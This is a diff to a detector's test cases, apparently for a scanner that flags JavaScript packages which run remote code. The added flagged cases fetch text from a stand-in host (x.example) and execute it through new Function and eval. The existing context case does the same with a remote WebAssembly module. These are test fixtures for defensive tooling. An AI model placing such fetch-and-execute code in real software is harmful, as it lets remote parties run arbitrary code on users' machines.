@@ -348,8 +348,20 @@ export default defineCases({
       manifest: { type: 'module' },
       code: "let wasm, cached = null; const decoder = new TextDecoder();\nfunction memory() { if (cached === null) cached = new Uint8Array(wasm.memory.buffer); return cached }\nconst text = (at, size) => decoder.decode(memory().subarray(at, at + size));\nasync function made(module, imports) { return { instance: await WebAssembly.instantiate(module, imports), module } }\nexport async function load(url, imports) { const { instance, module } = await made(await fetch(url), imports); wasm = instance.exports; load.module = module; return wasm }\nawait load('https://x.example/x.wasm', {});\nnew Function(text(0, 80))();",
     },
+    {
+      name: 'a text that is written out in code that runs it',
+      code: "fetch('https://x.example/a').then((r) => r.text()).then((t) => new Function('return eval(' + JSON.stringify(t) + ')')())",
+    },
+    {
+      name: 'a text that is written out, without its quotes',
+      code: "fetch('https://x.example/a').then((r) => r.text()).then((t) => new Function(JSON.stringify(t).slice(1, -1))())",
+    },
   ],
   ok: [
+    {
+      name: 'the names of columns in a reader of rows that is made for them',
+      code: "const reader = (columns) => new Function('d', 'return {' + columns.map((name, i) => JSON.stringify(name) + ': d[' + i + '] || \"\"').join(',') + '}');\nexports.rows = async (url) => { const text = await (await fetch(url)).text(); const lines = text.split('\\n'); return lines.map((line) => reader(lines[0].split(','))(line.split(','))) }",
+    },
     {
       name: 'an archive in the package, of which a program takes the files',
       code: "const fs = require('fs'), cp = require('child_process'), zlib = require('zlib');\nexports.scaffold = (dir) => {\n  const file = dir + '/template.tar';\n  fs.writeFileSync(file, zlib.inflateSync(Buffer.from('eJzT0yMAAGTvBe8AAAD1BgABeJxLyy/KzU0EAAiQAk0', 'base64')));\n  cp.execFileSync('tar', ['-xf', file, '-C', dir]);\n};",
